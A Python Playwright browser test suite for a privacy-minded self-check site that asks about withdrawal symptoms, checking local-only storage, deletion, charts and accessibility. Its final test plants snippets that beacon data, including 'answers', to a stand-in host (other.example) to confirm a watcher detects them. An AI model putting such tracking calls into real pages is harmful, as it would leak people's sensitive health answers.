"""Keeping a result on the phone: only when asked, only there, drawn over time, deleted for good; and what a journey leaves behind."""

from __future__ import annotations

import datetime
import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from ebbtide.selfcheck import Plan, score
from tests.browser.conftest import Watch, Watched, served
from tests.browser.selfcheck_pages import CALM, PLAN, RICH_PLAN, Reader, build, plain, reader, site, take, violations

__all__ = ["plain", "reader", "site"]
pytestmark = pytest.mark.xdist_group("selfcheck")

DENIED = "Object.defineProperty(window, 'localStorage', {get() { throw new DOMException('denied', 'SecurityError') }})"
FULL = "Storage.prototype.setItem = () => { throw new DOMException('full', 'QuotaExceededError') }"
WORSE: dict[str, Any] = {**CALM, "aches": "very", "falling": "much", "tense": "very"}


def finish(page: Page, answers: Mapping[str, Any] = CALM, plan: Plan = PLAN) -> None:
    take(page, plan, answers)
    page.locator("#see").click()
    page.locator("#take").wait_for()


def keep(page: Page) -> None:
    page.get_by_role("button", name="Keep this result on this phone").click()
    expect(page.locator("#held")).to_have_text("This result is kept on this phone.")


def in_storage(page: Page) -> dict[str, Any]:
    return {key: json.loads(text) for key, text in page.evaluate("Object.entries(localStorage)")}


def results(days: int = 4) -> list[dict[str, Any]]:
    """Results of so many days, the first at its worst, with one score missing."""
    made = []
    for day in range(days):
        value = [36, 24, None, 9, 3][day % 5]
        scores = [
            {"id": "total", "title": "All symptoms", "unit": "", "low": 0, "high": 42, "higher_is": "worse", "value": value,
             "band": "" if value is None else "Some symptoms"},
            {"id": "sleep", "title": "Sleep", "unit": "", "low": 0, "high": 9, "higher_is": "worse", "value": max(0, 8 - 2 * day), "band": ""},
        ]  # fmt: skip
        moment = datetime.datetime(2026, 11, 20, 21, 0, tzinfo=datetime.UTC) + datetime.timedelta(day)
        made.append(
            {"id": "withdrawal-symptoms", "version": "1.0.0", "title": "How strong are my withdrawal symptoms?",
             "made": int(moment.timestamp() * 1000), "scores": scores}
        )  # fmt: skip
    return made


def put(page: Page, address: str, kept: object) -> None:
    """Puts results where the pages of the site keep them."""
    page.goto(f"{address}/questionnaires/")
    page.evaluate(
        "([key, text]) => localStorage.setItem(key, text)",
        ["kept self-checks /", kept if isinstance(kept, str) else json.dumps(kept)],
    )


# Without script


def test_without_script_the_page_of_results_says_what_it_is(plain: Reader) -> None:
    plain.page.goto(f"{plain.site}/my-results/")
    text = plain.page.locator("main").inner_text()
    assert "This page needs JavaScript to show them" in text
    assert "clear the data of this site" in text
    assert "Nothing is kept here" not in text
    assert plain.page.get_by_role("button").count() == 0
    assert plain.page.locator("main a[href='../questionnaires/withdrawal-symptoms/']").is_visible()


# Kept only when asked


def test_nothing_is_stored_until_the_reader_asks_and_then_no_answers(reader: Reader) -> None:
    page = reader.open()
    finish(page, WORSE)
    assert in_storage(page) == {}
    assert page.locator("#kept").is_hidden()
    keep(page)
    expected = score(PLAN, WORSE)
    ((key, kept),) = in_storage(page).items()
    assert key == "kept self-checks /"
    (one,) = kept
    assert set(one) == {"id", "version", "title", "made", "scores"}
    assert {each["id"]: each["value"] for each in one["scores"]} == expected["scores"]
    assert one["scores"][0] == {
        "id": "total", "title": "All symptoms", "unit": "", "low": 0, "high": 42, "higher_is": "worse", "value": 8, "band": "Some symptoms",
    }  # fmt: skip
    assert "very" not in json.dumps(one)
    page.get_by_role("button", name="Keep this result on this phone").click()
    assert len(in_storage(page)[key]) == 1, "one result is kept once"
    assert page.get_by_role("link", name="My results").is_visible()


def test_answers_are_kept_where_the_reader_ticks_that(reader: Reader) -> None:
    page = reader.open("rich")
    answers = {
        "calm": "some",
        "worry": "never",
        "danger": "a",
        "pulse": 60,
        "weight": 1,
        "bed": "22:00",
        "up": "07:00",
        "slept": "8:00",
        "more": "b",
    }
    finish(page, answers, RICH_PLAN)
    page.get_by_label("Keep my answers too").check()
    keep(page)
    ((_, (one,)),) = in_storage(page).items()
    assert {id: answer for id, answer in one["answers"].items() if answer is not None} == answers
    assert score(RICH_PLAN, one["answers"])["scores"]["stress"] == one["scores"][0]["value"]


def test_one_visible_button_deletes_everything_after_it_has_asked(reader: Reader) -> None:
    page = reader.open()
    finish(page)
    keep(page)
    page.get_by_role("button", name="Delete everything that is kept").click()
    assert page.evaluate("document.activeElement.textContent") == "Yes, delete"
    page.get_by_role("button", name="No, keep").click()
    assert page.evaluate("document.activeElement.id") == "forget"
    assert len(in_storage(page)) == 1
    page.get_by_role("button", name="Delete everything that is kept").click()
    page.get_by_role("button", name="Yes, delete").click()
    assert in_storage(page) == {}
    expect(page.locator("#held")).to_have_text("Everything that was kept is deleted.")
    assert page.locator("#kept").is_hidden()


@pytest.mark.parametrize("fault", [DENIED, FULL], ids=["denied", "full"])
def test_a_browser_that_refuses_storage_is_told_kindly(chromium: Browser, site: str, fault: str) -> None:
    made = Reader(chromium, site)
    made.page.add_init_script(fault)
    page = made.open()
    finish(page)
    page.get_by_role("button", name="Keep this result on this phone").click()
    expect(page.locator("#held")).to_have_text(
        "This browser does not let us keep anything. You can print, copy or save your result instead."
    )
    assert page.locator("#kept").is_hidden()
    page.goto(f"{site}/my-results/")
    assert page.locator("#refused" if fault == DENIED else "#none").is_visible()
    assert page.locator("#none" if fault == DENIED else "#refused").is_hidden()
    made.close()


# My results


def test_results_are_drawn_over_time_with_a_table(reader: Reader) -> None:
    page = reader.page
    put(page, reader.site, results())
    page.goto(f"{reader.site}/my-results/")
    assert page.locator("#results h2").all_inner_texts() == ["How strong are my withdrawal symptoms?"]
    charts = page.locator("#results svg.chart")
    assert charts.count() == 2
    assert page.locator("#results figcaption").all_inner_texts() == [
        "All symptoms, from 0 to 42. Higher means worse.", "Sleep, from 0 to 9. Higher means worse.",
    ]  # fmt: skip
    assert charts.first.get_attribute("aria-label") == "Nov 20, 2026: 36, Nov 21, 2026: 24, Nov 23, 2026: 9"
    assert charts.first.locator("circle").count() == 3, "a day without a score has no point"
    heights = [
        float(each)
        for each in charts.first.locator("circle").evaluate_all("all => all.map(each => each.getAttribute('cy'))")
    ]
    assert heights == [pytest.approx(26 + 110 * (1 - value / 42)) for value in (36, 24, 9)]
    across = [
        float(each[:-1])
        for each in charts.first.locator("circle").evaluate_all("all => all.map(each => each.getAttribute('cx'))")
    ]
    assert across == [pytest.approx(17), pytest.approx(17 + 77 / 3), pytest.approx(94)], (
        "days lie as far apart as they were"
    )
    rows = page.locator("#results tbody tr")
    assert rows.count() == 4
    assert page.locator("#results thead th").all_inner_texts() == ["When", "All symptoms", "Sleep", "Delete"]
    cells = rows.nth(0).locator("td").all_inner_texts()
    assert [cell.split("\n")[0] for cell in cells[:2]] == ["9", "2"], "the newest first"
    assert rows.nth(1).locator("td").first.inner_text() == "No score"


def test_one_result_can_be_deleted_and_all_of_them(reader: Reader) -> None:
    page = reader.page
    put(page, reader.site, results())
    page.goto(f"{reader.site}/my-results/")
    row = page.locator("#results tbody tr").nth(1)
    row.get_by_role("button", name="Delete").click()
    assert page.locator("#results tbody tr").count() == 4, "it asks first"
    page.get_by_role("button", name="Yes, delete").click()
    assert page.locator("#results tbody tr").count() == 3
    expect(page.locator("#say")).to_have_text("The result is deleted.")
    assert page.evaluate("document.activeElement.id") == "top"
    ((_, kept),) = in_storage(page).items()
    assert [one["made"] for one in kept] == [one["made"] for index, one in enumerate(results()) if index != 2]
    page.get_by_role("button", name="Delete everything that is kept").click()
    page.get_by_role("button", name="Yes, delete").click()
    assert in_storage(page) == {}
    assert page.locator("#none").is_visible()
    assert page.get_by_role("button", name="Delete everything that is kept").is_hidden()


@pytest.mark.parametrize("text", ["", "null", "{}", "[1, null, {}]", "no JSON", '[{"scores": []}]'])
def test_storage_that_holds_something_else_breaks_nothing(reader: Reader, text: str) -> None:
    page = reader.page
    put(page, reader.site, text)
    page.goto(f"{reader.site}/my-results/")
    assert page.locator("main h1").is_visible()


def test_another_site_of_the_same_host_keeps_its_own(chromium: Browser, tmp_path: Path) -> None:
    folder = build(tmp_path)
    with served(folder, "/clinic/") as address:
        made = Reader(chromium, address)
        page = made.open()
        finish(page)
        keep(page)
        assert list(in_storage(page)) == ["kept self-checks /clinic/"]
        page.get_by_role("link", name="My results").click()
        expect(page.locator("#results tbody tr")).to_have_count(1)
        made.close()


def test_it_keeps_and_shows_from_a_disk_too(chromium: Browser, tmp_path: Path) -> None:
    """A site on a USB stick. Folders are completed to their pages there."""
    folder = build(tmp_path)
    context = chromium.new_context()
    page = context.new_page()
    page.goto((folder / "questionnaires/withdrawal-symptoms/index.html").as_uri())
    finish(page)
    keep(page)
    page.get_by_role("link", name="My results").click()
    assert page.url.endswith("/my-results/index.html")
    expect(page.locator("#results tbody tr")).to_have_count(1)
    context.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_my_results_are_clean_under_axe(chromium: Browser, site: str, scheme: str) -> None:
    made = Reader(chromium, site, color_scheme=scheme, bypass_csp=True, viewport={"width": 320, "height": 640})
    page = made.page
    page.goto(f"{site}/my-results/")
    assert violations(page) == [], "nothing kept"
    put(page, site, results(12))
    page.goto(f"{site}/my-results/")
    assert violations(page) == []
    page.get_by_role("button", name="Delete everything that is kept").click()
    assert violations(page) == [], "asking"
    assert page.evaluate("document.documentElement.scrollWidth") <= 320
    made.close()


def test_my_results_are_pressed_with_a_thumb(reader: Reader) -> None:
    page = reader.page
    put(page, reader.site, results())
    page.goto(f"{reader.site}/my-results/")
    small = """() => [...document.querySelectorAll("main button, main .rows a")].filter(each => each.offsetParent)
        .filter(each => each.getBoundingClientRect().height < 44).map(each => each.outerHTML.slice(0, 120))"""
    assert page.evaluate(small) == []


# What a journey leaves behind


def journey(watched: Watched, id: str = "withdrawal-symptoms") -> Page:
    """From the home page through a self-check to its result, back and forth, on to an article."""
    page = watched.open()
    watched.open("questionnaires/")
    watched.open(f"questionnaires/{id}/")
    finish(page, {**CALM, "thoughts": "passing", "aches": None})
    page.get_by_role("button", name="Copy for a clinician").click()
    with page.expect_download():
        page.locator('[data-save="fhir.json"]').click()
    page.go_back()
    page.go_forward()
    assert page.url == f"{watched.home}/questionnaires/{id}/", "nothing in the address"
    assert page.evaluate("JSON.stringify(history.state)") == '{"at":18}', (
        "history holds the number of a step and nothing else"
    )
    assert page.evaluate("window.name") == ""
    return page


def test_a_journey_asks_nobody_else_and_leaves_nothing(watch: Watch, site: str) -> None:
    watched = watch(site)
    journey(watched)
    assert watched.wrong() == []
    assert watched.stored() == {}
    assert [url for url in watched.asked if "?" in url or "thoughts" in url] == []
    watched.open("my-results/")
    assert watched.stored() == {}, "looking stores nothing"


def test_what_is_fetched_does_not_depend_on_the_answers(watch: Watch, site: str) -> None:
    asked = []
    for answers in (CALM, {**CALM, "signs": ["fit"], "thoughts": "act", "aches": "very"}):
        watched = watch(site)
        watched.open("questionnaires/withdrawal-symptoms/")
        finish(watched.page, answers)
        watched.page.wait_for_load_state("networkidle")
        asked.append([url for url in watched.asked if not url.startswith("blob:")])
    assert asked[0] == asked[1]
    assert len(asked[0]) == 5, "the page, its script, its icon; and one script and its styles for the result"


@pytest.mark.parametrize(
    ("deed", "caught"),
    [
        ("fetch('http://other.example/beacon').catch(() => {})", "asked another host: http://other.example/beacon"),
        ("new Image().src = 'http://other.example/pixel.gif'", "asked another host: http://other.example/pixel.gif"),
        (
            "navigator.sendBeacon('http://other.example/beacon', 'answers')",
            "asked another host: http://other.example/beacon",
        ),
        ("new WebSocket('ws://other.example/socket')", "asked another host: ws://other.example/socket"),
        ("document.cookie = 'seen=1'", "cookie"),
        ("localStorage.setItem('seen', '1')", "local"),
        ("sessionStorage.setItem('seen', '1')", "session"),
        ("indexedDB.open('seen')", "databases"),
        ("caches.open('seen')", "caches"),
    ],
)
def test_a_page_that_does_what_is_forbidden_is_caught(watch: Watch, tmp_path: Path, deed: str, caught: str) -> None:
    (tmp_path / "index.html").write_text(f"<!doctype html><title>Forbidden</title><script>{deed}</script>")
    with served(tmp_path) as address:
        watched = watch(address)
        watched.open()
        watched.page.wait_for_timeout(300)
        found = [*watched.wrong(), *watched.stored()]
        assert caught in found
